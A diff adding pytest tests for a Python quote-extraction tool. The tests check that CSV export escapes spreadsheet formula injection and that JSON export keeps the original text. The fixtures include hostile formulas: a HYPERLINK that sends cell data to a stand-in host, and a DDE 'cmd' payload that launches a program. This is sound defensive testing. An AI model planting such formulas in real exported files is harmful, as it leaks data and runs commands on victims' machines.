@@ -88,3 +88,51 @@ def test_extract_reports_an_extractor_failure_as_one_line(tmp_path, monkeypatch)
     assert result.exit_code == 1, result.output
     assert result.stderr.splitlines() == [f"Error: {bad}: extraction failed: ValueError: no sentences"]
     assert [json.loads(line)["text"] for line in result.stdout.splitlines()] == ["It works"]
+
+
+# --- B: CSV formula injection ---------------------------------------------------------
+
+
+def test_csv_export_escapes_text_that_a_spreadsheet_would_run(tmp_path):
+    """Text starting with = + - @ tab or CR gets a leading ' (OWASP); numbers, even
+    negative ones, and text with those characters further in are written as they are."""
+    from quotes.export import write
+
+    db = sqlite_utils.Database(tmp_path / "t.db")
+    db["things"].insert_all([
+        {"id": 1, "text": "=1+2", "n": -5, "x": -0.5, "note": None},
+        {"id": 2, "text": "+44 20 7946 0000", "n": 3, "x": 1.5, "note": "-minus"},
+        {"id": 3, "text": "@SUM(A1)", "n": 0, "x": 0.0, "note": "\tTab"},
+        {"id": 4, "text": "\rCR", "n": 7, "x": 2.0, "note": "plain"},
+        {"id": 5, "text": "a=b", "n": 1, "x": 1e-7, "note": "'already"},
+        {"id": 6, "text": '=HYPERLINK("http://x.example/?"&A1,"Click")', "n": -1, "x": -2.5, "note": "-5"},
+    ], pk="id")
+    out = io.StringIO()
+    assert write(db, "things", "csv", out) == 6
+    assert out.getvalue() == (
+        "id,text,n,x,note\r\n"
+        "1,'=1+2,-5,-0.5,\r\n"
+        "2,'+44 20 7946 0000,3,1.5,'-minus\r\n"
+        "3,'@SUM(A1),0,0.0,'\tTab\r\n"
+        "4,\"'\rCR\",7,2.0,plain\r\n"
+        "5,a=b,1,1e-07,'already\r\n"
+        "6,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Click\"\")\",-1,-2.5,'-5\r\n"
+    )
+
+
+def test_csv_export_escapes_quotes_and_titles_but_json_keeps_them(tmp_path, fake_extract):
+    """`quotes export` end to end: the quote and the article title an attacker wrote."""
+    folder = tmp_path / "in"
+    folder.mkdir()
+    write_article(folder, "a.txt", '"=cmd|\' /C calc\'!A0," Ann Lee said. "-2+3," Ann Lee said.',
+                  title="@SUM(1+1)*cmd")
+    db = tmp_path / "q.db"
+    runner = CliRunner()
+    assert runner.invoke(cli, ["load", str(folder), "--db", str(db), "-s"]).exit_code == 0
+    result = runner.invoke(cli, ["export", "quotes_view", "--db", str(db), "--format", "csv"])
+    assert result.exit_code == 0, result.output
+    rows = sorted((r["text"], r["article_title"]) for r in csv.DictReader(io.StringIO(result.stdout)))
+    assert rows == [("'-2+3", "'@SUM(1+1)*cmd"), ("'=cmd|' /C calc'!A0", "'@SUM(1+1)*cmd")]
+    as_json = runner.invoke(cli, ["export", "quotes_view", "--db", str(db), "--format", "json"])
+    assert sorted((r["text"], r["article_title"]) for r in json.loads(as_json.stdout)) == [
+        ("-2+3", "@SUM(1+1)*cmd"), ("=cmd|' /C calc'!A0", "@SUM(1+1)*cmd")]
